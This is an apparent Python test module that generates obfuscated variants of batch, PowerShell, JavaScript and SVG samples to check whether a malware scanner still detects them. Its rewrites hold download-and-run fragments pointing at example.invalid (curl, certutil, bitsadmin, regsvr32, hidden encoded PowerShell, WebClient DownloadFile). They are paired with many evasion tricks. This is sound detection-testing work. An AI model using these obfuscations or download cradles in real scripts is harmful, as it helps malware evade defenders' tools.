"""Scripts and drawings written in other ways."""

import re

from evasion_base import mutation, text_of

script = text_of({"vbs", "cmd", "ps1", "hta", "wsf"}, "script")
batch = text_of({"cmd"}, "script")


@script("keywords in upper case")
def upper(text):
    return re.sub(r"(?m)^(?!Rem|rem|'|#)(.+)$", lambda m: m[1].upper() if "-e " not in m[1] else m[1].replace("Run", "RUN").replace("If", "IF"), text)


@script("line ends of LF")
def lf(text):
    return text.replace("\r\n", "\n")


@script("line ends of CR")
def cr(text):
    return text.replace("\r\n", "\r")


@script("64 KB of blank lines before")
def blank_lines(text):
    return "\r\n" * 32768 + text


@script("1 MB of comments before")
def comments(text):
    mark = "# " if text.startswith("#") else "<!-- -->" if text.startswith("<") else "Rem "
    return f"{mark}INERT SEKISHO TEST: figures of the quarter\r\n" * 22000 + text


@script("UTF-16 with a byte order mark")
def utf16(text):
    return b"\xFF\xFE" + text.encode("utf-16-le")


@script("UTF-16, big end first")
def utf16be(text):
    return b"\xFE\xFF" + text.encode("utf-16-be")


@script("UTF-8 with a byte order mark")
def utf8(text):
    return b"\xEF\xBB\xBF" + text.encode()


@script("blanks and tabs")
def blanks(text):
    return re.sub(r"(?m)^", " \t" * 40, text).replace(" ", "  ")


@script("junk between")
def junk(text):
    return re.sub(r"(?m)^(?=[Ss]et|c\^|If|regs)", "Rem quarterly\r\nRem figures\r\n", text)


@batch("words without carets")
def no_carets(text):
    return text.replace("^", "")


@batch("carets between all letters")
def carets(text):
    return re.sub(r"(?m)^(c\^u\^rl|regs\^vr32)", lambda m: "^".join(m[1].replace("^", "")), text)


@batch("quotes within words")
def quotes(text):
    return text.replace("c^u^rl", 'c"ur"l').replace("regs^vr32", 'reg"sv"r32')


@batch("words in variables")
def variables(text):
    return text.replace("c^u^rl", "set q=cu\r\nset z=rl\r\n%q%%z%").replace("regs^vr32", "set y=regs\r\n%y%vr32")


@batch("words cut out of variables")
def substrings(text):
    return text.replace("c^u^rl", "set q=lrucxx\r\n%q:~3,1%%q:~2,1%%q:~1,1%%q:~0,1%")


@batch("delayed variables")
def delayed(text):
    return text.replace("c^u^rl", "setlocal enabledelayedexpansion\r\nset q=cu\r\n!q!rl")


@batch("lines continued by carets")
def continued(text):
    return text.replace(" -o ", " ^\r\n -o ").replace(" /s ", " ^\r\n/s ")


@batch("commands joined")
def joined(text):
    return text.replace("\r\nregs", " && regs")


@batch("behind cmd /c start")
def start(text):
    return text.replace("c^u^rl", "%ComSpec% /c start /b c^u^rl")


@batch("delimiters doubled")
def delimiters(text):
    return text.replace("regs^vr32 /s", ";regs^vr32;/s")


@batch("labels and colons between")
def labels(text):
    return text.replace("\r\n", "\r\n:: figures\r\n")


@batch("by bitsadmin")
def other_program(text):
    return text.replace("c^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll", "bits^admin /transfer q http://example.invalid/a.dll %TEMP%\\a.dll")


@batch("by certutil")
def certutil(text):
    return text.replace("c^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll", "cert^util -urlcache -f http://example.invalid/a.dll %TEMP%\\a.dll")


@mutation("script in UTF-8", "script")
def js_utf8(sample):
    return sample.with_data(sample.data[2:].decode("utf-16-le").encode()) if sample.kind == "js" else None


@mutation("script in UTF-16, big end first", "script")
def js_utf16be(sample):
    return sample.with_data(b"\xFE\xFF" + sample.data[2:].decode("utf-16-le").encode("utf-16-be")) if sample.kind == "js" else None


def javascript(name):
    def enter(function):
        @mutation(name, "script")
        def apply(sample):
            if sample.kind != "js":
                return None
            return sample.with_data(b"\xFF\xFE" + function(sample.data[2:].decode("utf-16-le")).encode("utf-16-le"))
        return function
    return enter


@javascript("comments between the tokens of a script")
def js_comments(text):
    return text.replace("(", "/* figures */(").replace(";", "; // notes\r\n")


@javascript("a comment of 64 KB before a script")
def js_before(text):
    return "/* INERT SEKISHO TEST: " + "figures of the quarter " * 2800 + "*/\r\n" + text


@javascript("names of a script renamed")
def js_names(text):
    return re.sub(r"\b([abc])\b(?=[=,.\[);]|\))", r"_0x\g<1>7", text)


@javascript("blanks within a script")
def js_blanks(text):
    return text.replace("=", "\t=\r\n ").replace(",", " ,\r\n")


@javascript("strings of a script in escapes")
def js_escapes(text):
    return re.sub(r"'(\w+)'", lambda m: "'" + "".join(f"\\x{ord(c):02x}" for c in m[1]) + "'", text)


drawing = text_of({"svg"}, "drawing")


@drawing("script in CDATA")
def svg_cdata(text):
    return re.sub(r"<script>(.*?)</script>", r"<script><![CDATA[\1]]></script>", text)


@drawing("prefix of SVG")
def svg_prefix(text):
    return re.sub(r"<(/?)(svg|script|desc|circle)", r"<\1s:\2", text).replace("xmlns=", "xmlns:s=")


@drawing("type of the script")
def svg_type(text):
    return text.replace("<script>", '<script type="application/ecmascript">')


@drawing("script in onload")
def svg_onload(text):
    return re.sub(r"<script>(.*?)</script>", "", text).replace("<svg ", "<svg onload=\"location='http://example.invalid/'\" ") if "<script" in text else text


@drawing("script by a link")
def svg_link(text):
    return re.sub(r"<script>(.*?)</script>", '<script href="data:text/javascript;base64,SU5FUlQ="/>', text)


@drawing("XML declaration, document type and comment before")
def svg_before(text):
    return '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- figures -->\n' + text


@drawing("UTF-16")
def svg_utf16(text):
    return b"\xFF\xFE" + text.encode("utf-16-le")


powershell = text_of({"ps1"}, "PowerShell")


@powershell("keywords in mixed case")
def ps_case(text):
    return re.sub(r"[A-Za-z-]+(?=[ .(])", lambda m: "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(m[0])), text)


@powershell("backticks within words")
def ps_backticks(text):
    return text.replace("New-Object", "N`ew-Ob`ject").replace("Start-Process", "St`art-Pro`cess")


@powershell("strings joined from single letters")
def ps_letters(text):
    return re.sub(r"'([^']+)'", lambda m: "(" + "+".join(f"'{c}'" for c in m[1]) + ")", text)


@powershell("strings by the format operator")
def ps_format(text):
    return text.replace("'ht' + 'tp://example.invalid/inert/a.dll'", "'{1}{0}{2}' -f 'tp://example.','ht','invalid/inert/a.dll'")


@powershell("strings of character codes")
def ps_codes(text):
    return re.sub(r"'([^']+)'", lambda m: "(" + "+".join(f"[char]{ord(c)}" for c in m[1]) + ")", text)


@powershell("strings salted, by -replace")
def ps_salted(text):
    return re.sub(r"'([^']+)'", lambda m: "('" + "qZ".join(m[1]) + "' -replace 'qZ','')", text)


@powershell("strings backwards")
def ps_reverse(text):
    return re.sub(r"'([^']+)'", lambda m: f"(-join ('{m[1][::-1]}'[-1..-{len(m[1])}]))", text)


@powershell("strings in base64")
def ps_base64(text):
    import base64
    return re.sub(r"'([^']+)'", lambda m: "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
                  + base64.b64encode(m[1].encode()).decode() + "'))", text)


@powershell("members by name")
def ps_members(text):
    return text.replace(".DownloadFile(", ".('Down' + 'loadFile').Invoke(")


@powershell("types and commands in strings")
def ps_call(text):
    return text.replace("New-Object Net.WebClient", "&('New-' + 'Object') ('Net.' + 'WebClient')").replace("Start-Process", "&('Start-' + 'Process')")


@powershell("aliases")
def ps_alias(text):
    return text.replace("Start-Process", "saps").replace("if ($false)", "if($false)")


@powershell("encoded command of powershell.exe")
def ps_encoded(text):
    import base64
    return "# INERT SEKISHO TEST\r\npowershell.exe -nop -w hidden -enc " + base64.b64encode(text.encode("utf-16-le")).decode() + "\r\n"


@powershell("comments between tokens")
def ps_comments(text):
    return text.replace(" = ", " <# figures #> = <# notes #> ").replace("(('", "( <# x #> ('")
